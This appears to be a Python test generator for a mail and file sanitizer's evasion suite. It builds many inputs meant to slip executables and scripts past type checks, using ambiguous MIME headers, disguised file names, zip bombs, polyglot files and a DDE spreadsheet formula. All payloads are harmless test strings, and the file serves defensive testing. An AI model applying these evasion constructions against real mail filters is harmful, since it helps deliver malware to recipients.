#!/usr/bin/env python3
"""
NAME
    gen.py - build the evasion cases for tests/scripts/t-evasion.sh

SYNOPSIS
    gen.py OUTDIR CLAM_EXE

DESCRIPTION
    Writes one input per row of CASES into OUTDIR and OUTDIR/cases.tsv with
    the columns: name, input file, channel (mail|file), payload file,
    expectation.  Every input is built here at run time from three payloads:
      clam   /usr/share/clamav-testfiles/clam.exe (544-byte harmless PE that
             the test signature DB knows),
      pe     the same PE with its last byte changed (no signature matches:
             only type/name logic can stop it),
      eicar  the EICAR string, assembled from pieces,
      script an HTML <script> element (a browser runs it when the file
             or attachment is opened by its name),
      formula a spreadsheet formula line (DDE) of a CSV,
      iqy    an Excel web query (fetches and opens a URL),
      rtf_template  an RTF remote template reference,
      pdf_js an OpenAction JavaScript of a PDF,
      onerror an HTML event handler (markup libmagic does not call HTML).
    Expectations (comma separated, all must hold; "payload absent" and "no
    crash" always apply):
      undelivered        exit 2 or 3 (nothing forwarded)
      verdict=A|B        report verdict is one of these
      code=A|B           some node carries one of these finding codes
      not_original       what is forwarded (if anything) is not the input
      rebuilt            something is forwarded and it is a rebuilt mail
      named              a forwarded mail's X-Mukaika-Actions names what was
                         done (not "none": a removed multipart names its parts)
    Nothing hostile is stored in the repository: the payloads come from the
    system's clamav-testfiles and are wrapped here.
"""
import base64, struct, binascii, io, os, sys, zipfile

OUT, CLAM = sys.argv[1], sys.argv[2]
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" +
         b"TEST-FILE!$H+H*")
clam = open(CLAM, "rb").read()
pe = clam[:-1] + bytes([clam[-1] ^ 0x55])
SCRIPT = b"<script>alert(document.domain)</script>"
FORMULA = b"\n=cmd|'/C calc'!A0\n"
IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.html\r\n"
RTF_TEMPLATE = b"{\\*\\template http://198.51.100.7/t.dotm}"
PDF_JS = b"/S/JavaScript/JS(app.alert(document.domain))"
ONERROR = b'<img src=x onerror="alert(document.domain)">'   # no "<script"
PAYLOADS = {"clam": clam, "pe": pe, "eicar": EICAR, "script": SCRIPT,
            "formula": FORMULA, "iqy": IQY, "rtf_template": RTF_TEMPLATE,
            "pdf_js": PDF_JS, "onerror": ONERROR}
# File cases are named NAME.bin unless listed here (the name is what a
# recipient's browser or viewer goes by).
FILE_EXT = {"padded_html_file": "html", "late_svg_file": "svg",
            "padded_xhtml_file": "xhtml", "padded_mht_file": "mht",
            "prose_csv_file": "csv", "mail_file_with_exe": "eml",
            "mail_file_html_script": "eml"}

HDR = ["From: Attacker <attacker@example.com>", "To: victim@example.jp",
       "Date: Mon, 01 Jan 2024 00:00:00 +0000",
       "Message-ID: <evasion@example.com>", "MIME-Version: 1.0"]
B = "evasion-boundary-42"


def b64(data, garbage=False):
    s = base64.b64encode(data).decode()
    lines = [s[i:i + 76] for i in range(0, len(s), 76)]
    if garbage:   # characters outside the alphabet, decoders must skip them
        lines = [ln[:10] + "!*~" + ln[10:40] + " \t" + ln[40:] for ln in lines]
        lines.insert(0, "%%% not base64 at all %%%")
    return lines


def mail(subject, body_lines):
    return "\r\n".join(HDR + ["Subject: " + subject] + body_lines + [""]).encode()


def attach(payload, part_headers, ctype_top=None, boundary=B, end=True,
           body_boundary=None, garbage=False):
    top = ctype_top or f'Content-Type: multipart/mixed; boundary="{boundary}"'
    bb = body_boundary or boundary
    lines = [top, "", "preamble", f"--{bb}",
             "Content-Type: text/plain; charset=us-ascii", "", "Please see the attachment.",
             f"--{bb}"] + part_headers + ["Content-Transfer-Encoding: base64", ""]
    lines += b64(payload, garbage)
    if end:
        lines.append(f"--{bb}--")
    return lines


def simple(payload, name, ctype="application/octet-stream", **kw):
    return attach(payload, [f'Content-Type: {ctype}; name="{name}"',
                            f'Content-Disposition: attachment; filename="{name}"'], **kw)


def rfc2047(s):
    return "=?UTF-8?B?" + base64.b64encode(s.encode()).decode() + "?="


def uuencode(data, name):
    lines = [f"begin 644 {name}"]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45]).decode().rstrip("\n"))
    return lines + ["`", "end"]


def nested(payload, depth):
    inner = ["Content-Type: multipart/mixed; boundary=\"d0\"", "", "--d0",
             'Content-Type: application/octet-stream; name="deep.exe"',
             "Content-Disposition: attachment; filename=\"deep.exe\"",
             "Content-Transfer-Encoding: base64", ""] + b64(payload) + ["--d0--"]
    for i in range(1, depth + 1):
        inner = [f'Content-Type: multipart/mixed; boundary="d{i}"', "", f"--d{i}",
                 "Content-Type: message/rfc822", "",
                 "From: a@example.com", f"Subject: level {i}", "MIME-Version: 1.0"] + \
                inner + [f"--d{i}--"]
    return inner


def qp(data):
    import quopri
    return quopri.encodestring(data).decode().split("\n")


def zip_bytes(members, method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for name, data in members:
            if callable(data):       # streamed generator of chunks
                zi = zipfile.ZipInfo(name)
                zi.compress_type = method
                with z.open(zi, "w", force_zip64=True) as w:
                    for chunk in data():
                        w.write(chunk)
            else:
                z.writestr(name, data)
    return b.getvalue()


def zeros(total):
    def gen():
        left = total
        while left > 0:
            n = min(left, 1 << 20)
            left -= n
            yield b"\0" * n
    return gen


def text_mb(seed):
    # Compresses about 4:1 (under the ratio limit) but adds up in size.
    import random
    r = random.Random(seed)
    words = [bytes(r.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(2, 9)))
             for _ in range(2000)]
    return b" ".join(r.choice(words) for _ in range(190000))[:1 << 20]


def ratio_bomb(p):
    inner = zip_bytes([("zeros.bin", zeros(64 << 20)), ("payload.exe", p)])
    return mail("ratio bomb", simple(inner, "report.zip", "application/zip"))


def padded(p, markup="html"):
    """Markup libmagic calls text/plain: 10 KB of blanks before it."""
    return b" " * 10240 + f"<{markup}><body>".encode() + p + f"</body></{markup}>\n".encode()


def late_svg(p):
    """An SVG after 3 000 lines of text (past libmagic's regex window)."""
    return b"x\n" * 3000 + b'<svg xmlns="http://www.w3.org/2000/svg">' + p + b"</svg>\n"


def headless_mail(p, name="setup.exe"):
    """A mail that starts with MIME-Version, not From: (libmagic: text/plain)."""
    return ("\r\n".join(["MIME-Version: 1.0", "Subject: inner"] +
                         attach(p, [f'Content-Type: application/octet-stream; name="{name}"',
                                    f'Content-Disposition: attachment; filename="{name}"'])) +
            "\r\n").encode()


def mht_doc(p):
    """MHT (text) saved as .doc: Word opens it, with its ActiveMime part."""
    return (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="R"\r\n\r\n'
            b"--R\r\nContent-Type: text/html\r\n\r\n<html>" + p + b"</html>\r\n--R\r\n"
            b"Content-Location: editdata.mso\r\nContent-Type: application/x-mso\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64.encodebytes(b"ActiveMime\0\0" + b"\0" * 64) + b"--R--\r\n")


def ambiguous(p, top=None, part=None, extra=()):
    """A mail whose MIME headers two readers read differently (issue 13,
    item 8): TOP replaces the top Content-Type, PART the attachment's
    headers (the payload goes base64 under them), EXTRA are more top
    lines."""
    part = part or ['Content-Type: application/octet-stream; name="data.bin"',
                    'Content-Disposition: attachment; filename="data.bin"']
    return mail("ambiguous", list(extra) + attach(p, part, ctype_top=top))


def two_boundaries(p):
    """boundary given twice: the first wins for some readers (a text body
    only), the last for others (an executable)."""
    return mail("two boundaries", ['Content-Type: multipart/mixed; boundary="AAA"; boundary="BBB"',
        "", "--AAA", "Content-Type: text/plain", "", "nothing here", "--AAA--",
        "--BBB", "Content-Type: text/plain", "", "see attached", "--BBB",
        'Content-Type: application/octet-stream; name="setup.exe"',
        "Content-Transfer-Encoding: base64", ""] + b64(p) + ["--BBB--"])


def two_top_types(p):
    """Content-Type given twice at the top: text/plain or multipart."""
    return mail("two types", ["Content-Type: text/plain; charset=us-ascii"] +
                attach(p, ['Content-Type: application/octet-stream; name="setup.exe"']))


# one row per class of ambiguous MIME, each in the mail and the file
# channel (a .eml dropped as a file)
AMBIGUOUS = [
    ("boundary_twice", two_boundaries),
    ("boundary_junk_after_quote", lambda p: ambiguous(p,
        top=f'Content-Type: multipart/mixed; boundary="{B}"x')),
    ("top_content_type_twice", two_top_types),
    ("charset_twice", lambda p: ambiguous(p, part=[
        'Content-Type: text/html; charset=us-ascii; charset=utf-7; name="a.html"'])),
    ("filename_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
        'Content-Disposition: attachment; filename="notes.txt"; filename="setup.exe"'])),
    ("name_twice", lambda p: ambiguous(p, part=[
        'Content-Type: application/octet-stream; name="notes.txt"; name="setup.exe"'])),
    ("rfc2231_vs_plain", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
        "Content-Disposition: attachment; filename=\"notes.txt\"; filename*=UTF-8''setup.exe"])),
    ("continuation_vs_plain", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
        'Content-Disposition: attachment; filename*0="notes"; filename*1=".txt"; filename="setup.exe"'])),
    ("continuation_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
        'Content-Disposition: attachment; filename*0="notes"; filename*0="setup"; filename*1=".exe"'])),
    ("name_vs_filename", lambda p: ambiguous(p, part=[
        'Content-Type: application/octet-stream; name="notes.txt"',
        'Content-Disposition: attachment; filename="setup.exe"'])),
    ("transfer_encoding_twice", lambda p: ambiguous(p, part=[
        'Content-Type: application/octet-stream; name="data.bin"',
        "Content-Transfer-Encoding: 7bit"])),
    ("disposition_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
        'Content-Disposition: inline; filename="note.txt"',
        'Content-Disposition: attachment; filename="setup.exe"'])),
]


def pdf_js(p):
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<<" + p +
            b">>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


def stored_zip(members):
    return zip_bytes(members, zipfile.ZIP_STORED)


def zip64_end(z, comment=b""):
    """Z with a zip64 end: the classic record's sizes and offsets set to
    0xFFFF/0xFFFFFFFF, the real ones in a zip64 end record and locator."""
    i = z.rindex(b"PK\x05\x06")
    n, cd_size, cd_off = struct.unpack("<HII", z[i + 10:i + 20])
    rec = (b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, n, n,
                                         cd_size, cd_off))
    loc = b"PK\x06\x07" + struct.pack("<IQI", 0, i, 1)
    end = (b"PK\x05\x06" + struct.pack("<HHHHIIH", 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF,
                                         0xFFFFFFFF, 0xFFFFFFFF, len(comment)) + comment)
    return z[:i] + rec + loc + end


def utf16_html(text, be=False):
    return (b"\xfe\xff" + text.encode("utf-16-be")) if be else \
        (b"\xff\xfe" + text.encode("utf-16-le"))


# bytes libmagic calls text that a lenient reader opens as something else
# (issue 13, item 10), each as a file and as a text/plain attachment
POLYGLOTS = [
    ("pdf_after_text", "pdf_js", lambda p: b"Dear customer,\n" * 20 + pdf_js(p)),
    ("html_after_blank_lines", "onerror", lambda p: b"\r\n\r\n   <iframe src=x></iframe>" + p),
    ("html_body_tag", "onerror", lambda p: b"<body onload=x>" + p + b"</body>"),
    ("html_div", "onerror", lambda p: b"<div>" + p + b"</div>"),
    ("html_within_256", "onerror", lambda p: b"Please read this first.\n<iframe src=x></iframe>" +
        p + b"\n" + b"word " * 100),
    ("svg_after_blanks", "onerror", lambda p: b"  \n<svg onload=\"alert(1)\">" + p + b"</svg>"),
    ("zip_after_text", "pe", lambda p: b"Meeting notes follow.\n" * 100 +
        stored_zip([("setup.exe", p)])),
    ("rtf_after_text", "rtf_template", lambda p: b"Minutes of the meeting\n" +
        b"{\\rtf1\\ansi" + p + b" hello}"),
    # zip64 ends (classic fields 0xFFFFFFFF), a PDF header past the first
    # KB, HTML/SVG in UTF-16 with a byte order mark
    ("zip64_after_text", "pe", lambda p: b"Meeting notes follow.\n" * 100 +
        zip64_end(stored_zip([("setup.exe", p)]))),
    ("zip64_comment_after_text", "pe", lambda p: b"Notes.\n" * 50 +
        zip64_end(stored_zip([("a.txt", b"hello"), ("setup.exe", p)]), b"see notes")),
    ("zip64_plain", "pe", lambda p: zip64_end(stored_zip([("setup.exe", p)]))),
    ("pdf_after_2kb", "pdf_js", lambda p: b"Dear customer,\n" * 150 + pdf_js(p)),
    ("pdf_after_64kb", "pdf_js", lambda p: b"Dear customer, see below.\n" * 2600 + pdf_js(p)),
    ("html_utf16le", "onerror", lambda p: utf16_html("<html><body>" + p.decode() +
        "</body></html>")),
    ("html_utf16be", "onerror", lambda p: utf16_html("\r\n <iframe src=x></iframe>" +
        p.decode(), be=True)),
    ("html_utf16le_late", "onerror", lambda p: utf16_html("Please read this.\n<script>x</script>" +
        p.decode())),
    ("svg_utf16le", "onerror", lambda p: utf16_html("<svg onload=\"alert(1)\">" + p.decode() +
        "</svg>")),
]


def size_bomb(p):
    members = [(f"part{i:02d}.txt", text_mb(i)) for i in range(12)] + [("payload.exe", p)]
    return mail("size bomb", simple(zip_bytes(members), "data.zip", "application/zip"))


CASES = [
    # name, payload, channel, expectation, builder(payload) -> bytes
    ("rfc2231_split_exe", "pe", "mail", "code=executable|type_mismatch",
     lambda p: mail("rfc2231", attach(p, ["Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*0=\"inv\"; filename*1=\"oice.e\"; filename*2=\"xe\""]))),
    ("rfc2231_encoded_exe", "pe", "mail", "code=executable|type_mismatch",
     lambda p: mail("rfc2231 enc", attach(p, ["Content-Type: application/pdf",
        "Content-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf%2Eexe"]))),
    ("rfc2047_name_exe", "pe", "mail", "code=executable|type_mismatch|double_extension",
     lambda p: mail("rfc2047", simple(p, rfc2047("請求書.pdf.exe")))),
    ("duplicate_content_type", "pe", "mail", "code=executable|type_mismatch|duplicate_header",
     lambda p: mail("dup ctype", attach(p, ['Content-Type: image/jpeg; name="a.jpg"',
        'Content-Type: application/x-msdownload; name="a.exe"',
        'Content-Disposition: attachment; filename="a.jpg"']))),
    ("duplicate_content_disposition", "pe", "mail", "code=executable|type_mismatch|duplicate_header",
     lambda p: mail("dup cdisp", attach(p, ['Content-Type: application/octet-stream',
        'Content-Disposition: inline; filename="note.txt"',
        'Content-Disposition: attachment; filename="setup.exe"']))),
    # Content that cannot be parsed must not vanish silently with a "pass".
    ("missing_boundary_param", "pe", "mail", "verdict=stripped|quarantined|rejected",
     lambda p: mail("no boundary", simple(p, "setup.exe",
        ctype_top="Content-Type: multipart/mixed"))),
    ("wrong_boundary", "pe", "mail", "verdict=stripped|quarantined|rejected",
     lambda p: mail("wrong boundary", simple(p, "setup.exe", body_boundary="other-boundary"))),
    ("unterminated_multipart", "pe", "mail", "",
     lambda p: mail("no end", simple(p, "setup.exe", end=False))),
    ("nested_rfc822_too_deep", "pe", "mail", "undelivered,code=limit",
     lambda p: mail("deep", nested(p, 14))),
    ("nested_rfc822_clam", "clam", "mail", "code=virus",
     lambda p: mail("nested clam", nested(p, 3))),
    ("message_partial", "pe", "mail", "undelivered,code=partial_message",
     lambda p: mail("partial", ['Content-Type: message/partial; id="abc@example.com"; number=1; total=2', "",
        "MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{B}"', "", f"--{B}",
        'Content-Type: application/octet-stream; name="x.exe"', "Content-Transfer-Encoding: base64", ""]
        + b64(p))),
    ("message_external_body", "pe", "mail", "code=external_body",
     lambda p: mail("external", [f'Content-Type: multipart/mixed; boundary="{B}"', "", f"--{B}",
        "Content-Type: text/plain; charset=us-ascii", "", "Download below.", f"--{B}",
        'Content-Type: message/external-body; access-type=URL; URL="http://example.com/x.exe"', "",
        'Content-Type: application/octet-stream; name="x.exe"', "", f"--{B}--"])),
    ("uuencoded_exe_in_text", "pe", "mail", "code=uuencode|executable",
     lambda p: mail("uu", ["Content-Type: text/plain; charset=us-ascii", "", "Here it is:", ""]
        + uuencode(p, "invoice.exe"))),
    ("uuencoded_clam_in_text", "clam", "mail", "code=virus|uuencode",
     lambda p: mail("uu clam", ["Content-Type: text/plain; charset=us-ascii", "", "Here:", ""]
        + uuencode(p, "clam.exe"))),
    ("base64_with_garbage", "pe", "mail", "",
     lambda p: mail("garbage", simple(p, "setup.exe", garbage=True))),
    ("base64_with_garbage_clam", "clam", "mail", "undelivered",
     lambda p: mail("garbage clam", simple(p, "setup.bin", garbage=True))),
    ("zip_bomb_ratio", "pe", "mail", "undelivered,code=limit", ratio_bomb),
    ("zip_bomb_size", "pe", "mail", "undelivered,code=limit", size_bomb),
    ("exe_renamed_txt", "pe", "mail", "code=type_mismatch|executable",
     lambda p: mail("txt", simple(p, "readme.txt", "text/plain"))),
    ("double_extension", "pe", "mail", "code=double_extension|executable",
     lambda p: mail("double", simple(p, "invoice.pdf.exe", "application/pdf"))),
    ("rtlo_name", "pe", "mail", "code=bidi_name|executable",
     lambda p: mail("rtlo", simple(p, rfc2047("invoice\u202efdp.exe")))),
    ("exe_as_image_jpeg", "pe", "mail", "code=type_mismatch|executable",
     lambda p: mail("jpeg", simple(p, "photo.jpg", "image/jpeg"))),
    # a virus in an attachment drops the attachment (clamav.virus_in_attachment)
    ("clam_exe_attachment", "clam", "mail", "verdict=stripped,code=virus",
     lambda p: mail("clam", simple(p, "clam.exe"))),
    ("eicar_in_html_body", "eicar", "mail", "undelivered,code=virus",
     lambda p: mail("html", ["Content-Type: text/html; charset=us-ascii", "",
        "<html><body><p>" + p.decode().replace("<", "&lt;") + "</p></body></html>"])),
    ("eicar_in_qp_text", "eicar", "mail", "undelivered,code=virus",
     lambda p: mail("qp", ["Content-Type: text/plain; charset=us-ascii",
        "Content-Transfer-Encoding: quoted-printable", ""] + qp(p))),
    ("eicar_in_base64_text", "eicar", "mail", "undelivered,code=virus",
     lambda p: mail("b64 text", ["Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64", ""] + b64(p))),
    ("eicar_in_zip_file", "eicar", "file", "undelivered,code=virus",
     lambda p: zip_bytes([("docs/readme.txt", p)])),
    ("pe_file_named_pdf", "pe", "file", "",
     lambda p: p),
    # Text libmagic calls plain, named (or declared) as markup: a browser
    # renders it by its name, so it is handled as that markup, never passed.
    ("padded_html_attachment", "script", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("padded html", simple(padded(p), "page.html", "text/plain"))),
    ("padded_html_declared", "script", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("declared html", simple(padded(p), "page.txt", "text/html"))),
    ("late_svg_attachment", "script", "mail", "verdict=stripped|quarantined",
     lambda p: mail("late svg", simple(late_svg(p), "chart.svg", "application/octet-stream"))),
    ("padded_html_file", "script", "file", "verdict=cleaned|stripped|quarantined",
     padded),
    ("padded_xhtml_file", "script", "file", "verdict=cleaned|stripped|quarantined",
     lambda p: padded(p, "html")),
    ("late_svg_file", "script", "file", "verdict=stripped|quarantined|rejected",
     late_svg),
    ("padded_mht_file", "script", "file", "verdict=stripped|quarantined|rejected",
     lambda p: b"MIME-Version: 1.0\r\n" + padded(p)),
    # a .csv libmagic calls text/plain (prose first) still has its formulas defused
    ("prose_csv_file", "formula", "file", "verdict=cleaned|stripped|quarantined",
     lambda p: b"Quarterly figures follow, see below" + p + b"thanks\n"),
    # a mail dropped as a file: its parts are sanitized like mail, the
    # original (with the exe or the script) never goes on
    ("mail_file_with_exe", "pe", "file", "verdict=stripped|quarantined",
     lambda p: mail("fwd", simple(p, "setup.exe"))),
    ("mail_file_html_script", "script", "file", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("fwd html", ["Content-Type: text/html; charset=us-ascii", "",
        "<html><body><p>hi</p>" + p.decode() + "</body></html>"])),
    # the same three as parts: a mail libmagic calls text/plain is opened as a
    # mail; an archived mail with changed parts is not copied whole
    ("headless_eml_attachment", "pe", "mail", "code=executable|type_mismatch",
     lambda p: mail("eml", simple(headless_mail(p), "fwd.eml", "text/plain"))),
    ("headless_eml_in_zip", "pe", "mail", "verdict=stripped|quarantined",
     lambda p: mail("eml zip", simple(zip_bytes([("fwd.eml", headless_mail(p))]),
                                      "a.zip", "application/zip"))),
    ("mht_named_doc", "script", "mail", "code=type_mismatch",
     lambda p: mail("mht doc", simple(mht_doc(p), "report.doc", "application/msword"))),
    ("csv_named_xls", "formula", "mail", "code=type_mismatch",
     lambda p: mail("xls", simple(b"a,b" + p, "figures.xls", "application/vnd.ms-excel"))),
    # zero-width characters the delivered name loses must not hide ".js"
    ("zero_width_js_name", "iqy", "mail", "code=executable",
     lambda p: mail("zw", attach(p, ["Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*=UTF-8''invoice.j%E2%80%8Bs"]))),
    ("rdp_attachment", "iqy", "mail", "code=executable",
     lambda p: mail("rdp", simple(b"full address:s:198.51.100.7\r\ndrivestoredirect:s:*\r\n" + p,
                                  "connect.rdp", "application/x-rdp"))),
    # RTF is a text type to libmagic: it must still be sanitized (remote
    # template), and a calendar invitation must not carry a file
    ("rtf_remote_template", "rtf_template", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("rtf", simple(b"{\\rtf1\\ansi" + p + b" hello}", "minutes.rtf",
                                  "application/rtf"))),
    ("ics_inline_exe", "pe", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("invite", simple(("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"
        "SUMMARY:meeting\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.exe:" +
        base64.b64encode(p).decode() + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode(),
        "invite.ics", "text/calendar"))),
    # an encoding nobody can decode is not passed as the bytes it looks like
    ("unknown_transfer_encoding", "pe", "mail", "undelivered,code=parse_error",
     lambda p: mail("x-gzip64", [f'Content-Type: multipart/mixed; boundary="{B}"', "", f"--{B}",
        "Content-Type: text/plain; charset=us-ascii", "", "see attached", f"--{B}",
        'Content-Type: application/octet-stream; name="data.bin"',
        "Content-Transfer-Encoding: x-gzip64", ""] + b64(p) + [f"--{B}--"])),
    # a uuencoded block the body only forms when rendered: HTML lines split by
    # <br>, text lines split by bare CR
    ("uu_formed_by_html_br", "pe", "mail", "code=uuencode",
     lambda p: mail("uu br", ["Content-Type: text/html; charset=us-ascii", "",
        "<html><body>Here:<br>" + "<br>".join(l.replace("&", "&amp;").replace("<", "&lt;")
                                             for l in uuencode(p, "invoice.exe")) +
        "<br></body></html>"])),
    ("uu_formed_by_bare_cr", "pe", "mail", "code=uuencode",
     lambda p: mail("uu cr", ["Content-Type: text/plain; charset=us-ascii", "",
                              "Here:\r" + "\r".join(uuencode(p, "invoice.exe")) + "\r"])),
    # the rendered-as check sees the name as delivered (zero-width removed)
    ("zero_width_html_name", "script", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("zw html", attach(padded(p), ["Content-Type: text/plain",
        "Content-Disposition: attachment; filename*=UTF-8''page.ht%E2%80%8Bml"]))),
    # an invitation read as a client reads it: a fold inside "ATTACH", and
    # one libmagic calls text/plain (a BOM first) still goes through ics
    ("ics_fold_inside_name", "pe", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("invite fold", simple(("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATT\r\n"
        " ACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:" + base64.b64encode(p).decode() +
        "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode(), "invite.ics", "text/calendar"))),
    ("ics_with_bom_as_text", "pe", "mail", "verdict=cleaned|stripped|quarantined",
     lambda p: mail("invite bom", simple(("\ufeffBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n"
        "ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:" + base64.b64encode(p).decode() +
        "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n").encode(), "invite.ics", "text/plain"))),
    ("iqy_attachment", "iqy", "mail", "code=executable",
     lambda p: mail("web query", simple(p, "report.iqy", "text/plain"))),
]


for _n, _build in AMBIGUOUS:
    CASES.append(("ambiguous_" + _n, "pe", "mail",
                  "code=ambiguous_mime,verdict=stripped|quarantined,named", _build))
    CASES.append(("ambiguous_" + _n + "_file", "pe", "file",
                  "code=ambiguous_mime,verdict=stripped|quarantined,not_original", _build))
    FILE_EXT["ambiguous_" + _n + "_file"] = "eml"
# a mail file is rebuilt even when nothing in it is changed
CASES.append(("mail_file_clean_rebuilt", "pe", "file", "verdict=pass,rebuilt",
              lambda p: mail("clean", ["Content-Type: text/plain; charset=us-ascii", "",
                                       "nothing to see"]).replace(b"\r\n", b"\n")))
FILE_EXT["mail_file_clean_rebuilt"] = "eml"
for _n, _pl, _build in POLYGLOTS:
    CASES.append(("polyglot_" + _n + "_file", _pl, "file",
                  "verdict=cleaned|stripped|quarantined|rejected,not_original", _build))
    FILE_EXT["polyglot_" + _n + "_file"] = "txt"
    CASES.append(("polyglot_" + _n + "_bin_file", _pl, "file",
                  "verdict=cleaned|stripped|quarantined|rejected,not_original", _build))
    CASES.append(("polyglot_" + _n, _pl, "mail", "verdict=cleaned|stripped|quarantined|rejected",
                  lambda p, b=_build: mail("polyglot", simple(b(p), "notes.txt", "text/plain"))))
# a PDF behind junk, named .pdf: rebuilt (or held), never passed
CASES.append(("polyglot_pdf_named_pdf_file", "pdf_js", "file",
              "verdict=cleaned|stripped|quarantined,not_original",
              lambda p: b"\x00\x01junk\n" * 8 + pdf_js(p)))
FILE_EXT["polyglot_pdf_named_pdf_file"] = "pdf"


def main():
    os.makedirs(OUT, exist_ok=True)
    with open(os.path.join(OUT, "cases.tsv"), "w") as tsv:
        for name in PAYLOADS:
            open(os.path.join(OUT, "payload." + name), "wb").write(PAYLOADS[name])
        for name, pl, chan, expect, build in CASES:
            data = build(PAYLOADS[pl])
            ext = "eml" if chan == "mail" else FILE_EXT.get(name, "bin")
            path = os.path.join(OUT, f"{name}.{ext}")
            open(path, "wb").write(data)
            tsv.write(f"{name}\t{path}\t{chan}\t{os.path.join(OUT, 'payload.' + pl)}\t{expect or '-'}\n")


main()
